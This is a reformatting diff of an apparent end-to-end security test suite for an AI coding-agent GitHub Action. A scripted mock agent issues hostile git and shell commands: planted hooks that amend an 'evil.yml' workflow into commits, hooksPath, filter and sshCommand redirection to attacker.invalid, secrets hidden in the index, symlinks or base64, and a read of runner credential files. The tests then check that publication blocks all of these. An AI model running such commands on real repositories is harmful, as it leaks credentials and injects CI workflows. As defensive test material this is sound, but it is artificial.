@@ -93,13 +93,19 @@ const CASES: Case[] = [
     name: 'post-commit hook that amends a workflow file into the commit',
     commands: (ctx) => [
       // Guarded, because the amend runs post-commit again.
-      plant('.git/hooks/post-commit', ctx, 'post-commit', `[ -e '${ctx.scratch}/amended' ] && exit 0\ntouch '${ctx.scratch}/amended'\nmkdir -p .github/workflows; echo 'on: push' > .github/workflows/evil.yml; git add .github/workflows/evil.yml; git -c user.name=x -c user.email=x@x commit -q --amend --no-edit --no-verify\n`),
+      plant(
+        '.git/hooks/post-commit',
+        ctx,
+        'post-commit',
+        `[ -e '${ctx.scratch}/amended' ] && exit 0\ntouch '${ctx.scratch}/amended'\nmkdir -p .github/workflows; echo 'on: push' > .github/workflows/evil.yml; git add .github/workflows/evil.yml; git -c user.name=x -c user.email=x@x commit -q --amend --no-edit --no-verify\n`,
+      ),
       change,
     ],
   },
   {
     name: 'checkout and rewrite hooks, when the branch moved and the work is rebased',
-    commands: (ctx) => ['post-checkout', 'post-rewrite', 'pre-rebase', 'post-merge', 'pre-auto-gc'].map((hook) => plant(`.git/hooks/${hook}`, ctx, hook)).concat(change),
+    commands: (ctx) =>
+      ['post-checkout', 'post-rewrite', 'pre-rebase', 'post-merge', 'pre-auto-gc'].map((hook) => plant(`.git/hooks/${hook}`, ctx, hook)).concat(change),
     // Someone pushes to the work branch before the run publishes, so the push is rejected once.
     midRun: (scenario) => scenario.repo.pushFromElsewhere(PROMPT_BRANCH, 'NOTES.md', 'pushed meanwhile\n', 'main'),
     expect: async (run, scenario) => {
@@ -111,23 +117,49 @@ const CASES: Case[] = [
   // Git configuration of every kind.
   {
     name: 'core.hooksPath in the repository config',
-    commands: (ctx) => [...['pre-push', 'post-commit', 'reference-transaction', 'prepare-commit-msg'].map((hook) => plant(`.hooks/${hook}`, ctx, hook)), 'git config core.hooksPath .hooks', change],
+    commands: (ctx) => [
+      ...['pre-push', 'post-commit', 'reference-transaction', 'prepare-commit-msg'].map((hook) => plant(`.hooks/${hook}`, ctx, hook)),
+      'git config core.hooksPath .hooks',
+      change,
+    ],
   },
   {
     name: 'core.hooksPath in ~/.gitconfig (HOME)',
-    commands: (ctx) => [...['pre-push', 'post-commit', 'reference-transaction'].map((hook) => plant(`${ctx.home}/hooks/${hook}`, ctx, hook)), `git config --global core.hooksPath '${ctx.home}/hooks'`, change],
+    commands: (ctx) => [
+      ...['pre-push', 'post-commit', 'reference-transaction'].map((hook) => plant(`${ctx.home}/hooks/${hook}`, ctx, hook)),
+      `git config --global core.hooksPath '${ctx.home}/hooks'`,
+      change,
+    ],
   },
   {
     name: 'include.path to a config with hooks',
-    commands: (ctx) => [plant(`${ctx.scratch}/hooks/pre-push`, ctx, 'included-pre-push'), plant(`${ctx.scratch}/hooks/reference-transaction`, ctx, 'included-ref'), `printf '[core]\\n\\thooksPath = ${ctx.scratch}/hooks\\n' > '${ctx.scratch}/evil.config'`, `git config include.path '${ctx.scratch}/evil.config'`, change],
+    commands: (ctx) => [
+      plant(`${ctx.scratch}/hooks/pre-push`, ctx, 'included-pre-push'),
+      plant(`${ctx.scratch}/hooks/reference-transaction`, ctx, 'included-ref'),
+      `printf '[core]\\n\\thooksPath = ${ctx.scratch}/hooks\\n' > '${ctx.scratch}/evil.config'`,
+      `git config include.path '${ctx.scratch}/evil.config'`,
+      change,
+    ],
   },
   {
     name: 'a clean filter for every file',
-    commands: (ctx) => [plant(`${ctx.scratch}/clean.sh`, ctx, 'clean', 'cat\n'), `git config filter.leak.clean '${ctx.scratch}/clean.sh'`, `git config filter.leak.smudge '${ctx.scratch}/clean.sh'`, `echo '* filter=leak' > .gitattributes`, change],
+    commands: (ctx) => [
+      plant(`${ctx.scratch}/clean.sh`, ctx, 'clean', 'cat\n'),
+      `git config filter.leak.clean '${ctx.scratch}/clean.sh'`,
+      `git config filter.leak.smudge '${ctx.scratch}/clean.sh'`,
+      `echo '* filter=leak' > .gitattributes`,
+      change,
+    ],
   },
   {
     name: 'a filter from ~/.gitconfig with .git/info/attributes',
-    commands: (ctx) => [plant(`${ctx.scratch}/clean.sh`, ctx, 'global-clean', 'cat\n'), `git config --global filter.g.clean '${ctx.scratch}/clean.sh'`, `git config --global filter.g.process '${ctx.scratch}/clean.sh'`, `mkdir -p .git/info && echo '* filter=g' > .git/info/attributes`, change],
+    commands: (ctx) => [
+      plant(`${ctx.scratch}/clean.sh`, ctx, 'global-clean', 'cat\n'),
+      `git config --global filter.g.clean '${ctx.scratch}/clean.sh'`,
+      `git config --global filter.g.process '${ctx.scratch}/clean.sh'`,
+      `mkdir -p .git/info && echo '* filter=g' > .git/info/attributes`,
+      change,
+    ],
   },
   {
     name: 'core.fsmonitor',
@@ -135,7 +167,12 @@ const CASES: Case[] = [
   },
   {
     name: 'core.sshCommand with an ssh remote URL',
-    commands: (ctx) => [plant(`${ctx.scratch}/ssh.sh`, ctx, 'ssh'), `git config core.sshCommand '${ctx.scratch}/ssh.sh'`, `git config remote.origin.url 'ssh://git@attacker.invalid/octo/demo.git'`, change],
+    commands: (ctx) => [
+      plant(`${ctx.scratch}/ssh.sh`, ctx, 'ssh'),
+      `git config core.sshCommand '${ctx.scratch}/ssh.sh'`,
+      `git config remote.origin.url 'ssh://git@attacker.invalid/octo/demo.git'`,
+      change,
+    ],
   },
   {
     name: 'a pushurl to another repository',
@@ -143,33 +180,64 @@ const CASES: Case[] = [
   },
   {
     name: 'url.insteadOf to another repository',
-    commands: (ctx) => [`git init -q --bare '${ctx.evil}'`, `git config 'url.${ctx.evil}.insteadOf' '${ctx.origin}'`, `git config 'url.${ctx.evil}.pushInsteadOf' '${ctx.origin}'`, change],
+    commands: (ctx) => [
+      `git init -q --bare '${ctx.evil}'`,
+      `git config 'url.${ctx.evil}.insteadOf' '${ctx.origin}'`,
+      `git config 'url.${ctx.evil}.pushInsteadOf' '${ctx.origin}'`,
+      change,
+    ],
   },
   {
     name: 'core.worktree pointing at another tree',
-    commands: (ctx) => [`mkdir -p '${ctx.scratch}/tree' && git archive HEAD | tar -x -C '${ctx.scratch}/tree'`, `mkdir -p '${ctx.scratch}/tree/.github/workflows' && echo 'on: push' > '${ctx.scratch}/tree/.github/workflows/evil.yml'`, `echo '${DEPLOY}' > '${ctx.scratch}/tree/notes.txt'`, `git config core.worktree '${ctx.scratch}/tree'`, change],
+    commands: (ctx) => [
+      `mkdir -p '${ctx.scratch}/tree' && git archive HEAD | tar -x -C '${ctx.scratch}/tree'`,
+      `mkdir -p '${ctx.scratch}/tree/.github/workflows' && echo 'on: push' > '${ctx.scratch}/tree/.github/workflows/evil.yml'`,
+      `echo '${DEPLOY}' > '${ctx.scratch}/tree/notes.txt'`,
+      `git config core.worktree '${ctx.scratch}/tree'`,
+      change,
+    ],
   },
   // The agent's own commits.
   {
     name: 'a workflow file committed by the agent',
-    commands: () => ['mkdir -p .github/workflows && echo "on: push" > .github/workflows/evil.yml', `printf 'on: push\\n' > ${WORKFLOW}`, 'git add -A && git -c user.name=x -c user.email=x@x commit -qm "evil"', change],
+    commands: () => [
+      'mkdir -p .github/workflows && echo "on: push" > .github/workflows/evil.yml',
+      `printf 'on: push\\n' > ${WORKFLOW}`,
+      'git add -A && git -c user.name=x -c user.email=x@x commit -qm "evil"',
+      change,
+    ],
   },
   {
     name: 'a secret committed, then removed from the files',
-    commands: () => [`echo '${DEPLOY}' > leak.txt && git add leak.txt && git -c user.name=x -c user.email=x@x commit -qm leak`, 'git rm -q leak.txt && git -c user.name=x -c user.email=x@x commit -qm clean', change],
+    commands: () => [
+      `echo '${DEPLOY}' > leak.txt && git add leak.txt && git -c user.name=x -c user.email=x@x commit -qm leak`,
+      'git rm -q leak.txt && git -c user.name=x -c user.email=x@x commit -qm clean',
+      change,
+    ],
   },
   {
     name: 'a rewritten history (the branch reset to an orphan commit)',
-    commands: () => [`git checkout -q --orphan other && git rm -rq --cached . && echo '${DEPLOY}' > orphan.txt && git add orphan.txt && git -c user.name=x -c user.email=x@x commit -qm orphan`, 'git checkout -q -f - 2>/dev/null || true', `git reset -q --soft other`, change],
+    commands: () => [
+      `git checkout -q --orphan other && git rm -rq --cached . && echo '${DEPLOY}' > orphan.txt && git add orphan.txt && git -c user.name=x -c user.email=x@x commit -qm orphan`,
+      'git checkout -q -f - 2>/dev/null || true',
+      `git reset -q --soft other`,
+      change,
+    ],
   },
   // Index tricks.
   {
     name: 'assume-unchanged hides a staged secret',
-    commands: () => [`echo '${DEPLOY}' >> src/truncate.js && git add src/truncate.js && git update-index --assume-unchanged src/truncate.js && git show HEAD:src/truncate.js > src/truncate.js`, change],
+    commands: () => [
+      `echo '${DEPLOY}' >> src/truncate.js && git add src/truncate.js && git update-index --assume-unchanged src/truncate.js && git show HEAD:src/truncate.js > src/truncate.js`,
+      change,
+    ],
   },
   {
     name: 'skip-worktree hides a staged secret',
-    commands: () => [`echo '${DEPLOY}' >> src/slugify.js && git add src/slugify.js && git update-index --skip-worktree src/slugify.js && git show HEAD:src/slugify.js > src/slugify.js`, change],
+    commands: () => [
+      `echo '${DEPLOY}' >> src/slugify.js && git add src/slugify.js && git update-index --skip-worktree src/slugify.js && git show HEAD:src/slugify.js > src/slugify.js`,
+      change,
+    ],
   },
   // Racing daemons: what is read is what is published. Each swaps files in atomically (rename from outside the
   // workspace), so the file is always whole.
@@ -179,10 +247,12 @@ const CASES: Case[] = [
     // Which of the two the run reports depends on where the rename lands (before the read, or during it); both
     // leave the file as on main, which the checks below hold for every case.
     expect: (run) =>
-      expect([
-        `a change to the protected path ${WORKFLOW} was undone before commit (protected_paths)`,
-        `${WORKFLOW} was left out of the commit: it moved while it was being read`,
-      ].some((line) => run.summary.includes(line))).toBe(true),
+      expect(
+        [
+          `a change to the protected path ${WORKFLOW} was undone before commit (protected_paths)`,
+          `${WORKFLOW} was left out of the commit: it moved while it was being read`,
+        ].some((line) => run.summary.includes(line)),
+      ).toBe(true),
   },
   {
     name: 'a daemon swapping a secret into a file once it has been read',
@@ -211,14 +281,21 @@ const CASES: Case[] = [
   },
   {
     name: 'a secret as a symlink target',
-    commands: () => [`ln -s '/nonexistent/${SECRETS.GITHUB_TOKEN}' link-to-token`, `ln -s "$(printf %s '${INPUT_SECRETS.anthropic_api_key}' | base64)" link-b64`, change],
+    commands: () => [
+      `ln -s '/nonexistent/${SECRETS.GITHUB_TOKEN}' link-to-token`,
+      `ln -s "$(printf %s '${INPUT_SECRETS.anthropic_api_key}' | base64)" link-b64`,
+      change,
+    ],
   },
   {
     name: 'base64 at every alignment (standard and URL-safe)',
-    commands: () => ['', 'a', 'ab'].flatMap((pad) => [
-      `printf %s '${pad}${INPUT_SECRETS.github_token}' | base64 -w0 > b64-${pad.length}.txt`,
-      `printf 'token: %s\\n' "$(printf %s '${pad}${INPUT_SECRETS.anthropic_api_key}' | base64 -w0 | tr '+/' '-_')" > b64url-${pad.length}.txt`,
-    ]).concat(change),
+    commands: () =>
+      ['', 'a', 'ab']
+        .flatMap((pad) => [
+          `printf %s '${pad}${INPUT_SECRETS.github_token}' | base64 -w0 > b64-${pad.length}.txt`,
+          `printf 'token: %s\\n' "$(printf %s '${pad}${INPUT_SECRETS.anthropic_api_key}' | base64 -w0 | tr '+/' '-_')" > b64url-${pad.length}.txt`,
+        ])
+        .concat(change),
   },
   {
     name: 'hex, reversed and URL-encoded secrets',
@@ -249,7 +326,10 @@ const CASES: Case[] = [
       await scenario.repo.git(['config', '--local', 'includeIf.gitdir:/github/workspace/.git.path', '/github/runner_temp/git-credentials-0b1c2d3e.config']);
       return { RUNNER_TEMP: runnerTemp };
     },
-    commands: () => ['git config --list --show-origin > found.txt 2>&1; cat "$RUNNER_TEMP"/git-credentials-*.config >> found.txt 2>&1; git config --list | grep -ci extraheader', change],
+    commands: () => [
+      'git config --list --show-origin > found.txt 2>&1; cat "$RUNNER_TEMP"/git-credentials-*.config >> found.txt 2>&1; git config --list | grep -ci extraheader',
+      change,
+    ],
     expect: async (_run, scenario, ctx, results) => {
       expect(results[0]).toMatch(/^0\b/);
       expect(await readdir(join(ctx.scratch, 'runner_temp'))).not.toContain('git-credentials-0b1c2d3e.config');
@@ -268,60 +348,85 @@ const CASES: Case[] = [
 ];
 
 describe('publication from a clean room (end to end)', () => {
-  it.each(CASES.map((item) => [item.name, item] as const))('%s', async (_name, item) => {
-    const scenario = await startScenario(FILES);
-    const root = await mkdtemp(join(tmpdir(), 'nightshift-pubcase-'));
-    const ctx: Ctx = { sentinel: join(root, 'sentinel'), evil: join(root, 'evil.git'), home: join(root, 'home'), origin: scenario.repo.origin, scratch: join(root, 'scratch'), pidFile: join(root, 'daemon.pid') };
-    await Promise.all([ctx.sentinel, ctx.home, ctx.scratch].map((dir) => mkdir(dir, { recursive: true })));
-    try {
-      const env = (await item.setup?.(ctx, scenario)) ?? {};
-      const done = reply([text('## Summary\nDone.')]);
-      scenario.model.script(
-        ...item.commands(ctx).map((command) => reply([toolUse('bash', { command })])),
-        item.midRun ? async () => (await item.midRun!(scenario), done) : done,
-      );
-      scenario.model.setDefault(reply([text('## Summary\nDone.')]));
-      const run = await scenario.run({
-        // Without the box, as the agent's commands run where the runner cannot make one: the clean room must hold on
-        // its own, with the agent as the runner's user (the box's own cases are in __tests__/e2e/box.e2e.test.ts).
-        inputs: { ...INPUT_SECRETS, prompt: 'Handle this', secret_env: 'DEPLOY_KEY', isolation: 'none' },
-        env: { ...SECRETS, HOME: ctx.home, ...env },
-      });
-      const toolResults = scenario.model.requests.slice(1).flatMap((request) =>
-        (request.body.messages.at(-1).content as Array<{ type: string; content?: unknown }>).filter((block) => block.type === 'tool_result').map((block) => toolOutput(block)),
-      );
-      await item.expect?.(run, scenario, ctx, toolResults);
+  it.each(CASES.map((item) => [item.name, item] as const))(
+    '%s',
+    async (_name, item) => {
+      const scenario = await startScenario(FILES);
+      const root = await mkdtemp(join(tmpdir(), 'nightshift-pubcase-'));
+      const ctx: Ctx = {
+        sentinel: join(root, 'sentinel'),
+        evil: join(root, 'evil.git'),
+        home: join(root, 'home'),
+        origin: scenario.repo.origin,
+        scratch: join(root, 'scratch'),
+        pidFile: join(root, 'daemon.pid'),
+      };
+      await Promise.all([ctx.sentinel, ctx.home, ctx.scratch].map((dir) => mkdir(dir, { recursive: true })));
+      try {
+        const env = (await item.setup?.(ctx, scenario)) ?? {};
+        const done = reply([text('## Summary\nDone.')]);
+        scenario.model.script(
+          ...item.commands(ctx).map((command) => reply([toolUse('bash', { command })])),
+          item.midRun ? async () => (await item.midRun!(scenario), done) : done,
+        );
+        scenario.model.setDefault(reply([text('## Summary\nDone.')]));
+        const run = await scenario.run({
+          // Without the box, as the agent's commands run where the runner cannot make one: the clean room must hold on
+          // its own, with the agent as the runner's user (the box's own cases are in __tests__/e2e/box.e2e.test.ts).
+          inputs: { ...INPUT_SECRETS, prompt: 'Handle this', secret_env: 'DEPLOY_KEY', isolation: 'none' },
+          env: { ...SECRETS, HOME: ctx.home, ...env },
+        });
+        const toolResults = scenario.model.requests
+          .slice(1)
+          .flatMap((request) =>
+            (request.body.messages.at(-1).content as Array<{ type: string; content?: unknown }>)
+              .filter((block) => block.type === 'tool_result')
+              .map((block) => toolOutput(block)),
+          );
+        await item.expect?.(run, scenario, ctx, toolResults);
 
-      // The ordinary change was published: the case is not passing by publishing nothing.
-      const branch = run.outputs.branch;
-      expect([item.name, branch]).toEqual([item.name, expect.stringMatching(/^nightshift\//)]);
-      expect(await scenario.repo.readBranchFile(branch!, 'README.md')).toContain(MARK);
-      // Nothing planted ran.
-      expect([item.name, await readdir(ctx.sentinel)]).toEqual([item.name, []]);
-      // Nothing reached another repository.
-      const evilRefs = await exec('git', ['--git-dir', ctx.evil, 'for-each-ref'], {}).then((out) => out.stdout, () => '');
-      expect([item.name, evilRefs]).toEqual([item.name, '']);
-      // No secret in any pushed object, raw or encoded.
-      expect([item.name, leaksIn(await allObjectText(scenario.repo.origin), ALL_SECRETS)]).toEqual([item.name, []]);
-      // Every pushed branch: one commit on main, by the action, with the workflows as on main.
-      const mainWorkflows = (await scenario.repo.git(['--git-dir', scenario.repo.origin, 'rev-parse', 'main:.github/workflows'])).trim();
-      for (const ref of (await scenario.repo.listBranches()).filter((name) => name !== 'main')) {
-        expect([item.name, ref, (await scenario.repo.git(['--git-dir', scenario.repo.origin, 'rev-parse', `${ref}:.github/workflows`])).trim()]).toEqual([item.name, ref, mainWorkflows]);
-        // The test's own "pushed meanwhile" commits are by Fixture.
-        const authors = (await scenario.repo.git(['--git-dir', scenario.repo.origin, 'log', '--format=%an', `main..${ref}`])).trim().split('\n').filter((name) => name !== 'Fixture');
-        expect([item.name, ref, authors]).toEqual([item.name, ref, ['github-actions[bot]']]);
-      }
-    } finally {
-      const pid = Number(await readFile(ctx.pidFile, 'utf8').catch(() => ''));
-      if (pid > 0) {
-        try {
-          process.kill(-pid, 'SIGKILL');
-        } catch {
-          // Already gone.
+        // The ordinary change was published: the case is not passing by publishing nothing.
+        const branch = run.outputs.branch;
+        expect([item.name, branch]).toEqual([item.name, expect.stringMatching(/^nightshift\//)]);
+        expect(await scenario.repo.readBranchFile(branch!, 'README.md')).toContain(MARK);
+        // Nothing planted ran.
+        expect([item.name, await readdir(ctx.sentinel)]).toEqual([item.name, []]);
+        // Nothing reached another repository.
+        const evilRefs = await exec('git', ['--git-dir', ctx.evil, 'for-each-ref'], {}).then(
+          (out) => out.stdout,
+          () => '',
+        );
+        expect([item.name, evilRefs]).toEqual([item.name, '']);
+        // No secret in any pushed object, raw or encoded.
+        expect([item.name, leaksIn(await allObjectText(scenario.repo.origin), ALL_SECRETS)]).toEqual([item.name, []]);
+        // Every pushed branch: one commit on main, by the action, with the workflows as on main.
+        const mainWorkflows = (await scenario.repo.git(['--git-dir', scenario.repo.origin, 'rev-parse', 'main:.github/workflows'])).trim();
+        for (const ref of (await scenario.repo.listBranches()).filter((name) => name !== 'main')) {
+          expect([item.name, ref, (await scenario.repo.git(['--git-dir', scenario.repo.origin, 'rev-parse', `${ref}:.github/workflows`])).trim()]).toEqual([
+            item.name,
+            ref,
+            mainWorkflows,
+          ]);
+          // The test's own "pushed meanwhile" commits are by Fixture.
+          const authors = (await scenario.repo.git(['--git-dir', scenario.repo.origin, 'log', '--format=%an', `main..${ref}`]))
+            .trim()
+            .split('\n')
+            .filter((name) => name !== 'Fixture');
+          expect([item.name, ref, authors]).toEqual([item.name, ref, ['github-actions[bot]']]);
         }
+      } finally {
+        const pid = Number(await readFile(ctx.pidFile, 'utf8').catch(() => ''));
+        if (pid > 0) {
+          try {
+            process.kill(-pid, 'SIGKILL');
+          } catch {
+            // Already gone.
+          }
+        }
+        await scenario.close();
+        await rm(root, { recursive: true, force: true });
       }
-      await scenario.close();
-      await rm(root, { recursive: true, force: true });
-    }
-  }, 60_000);
+    },
+    60_000,
+  );
 });
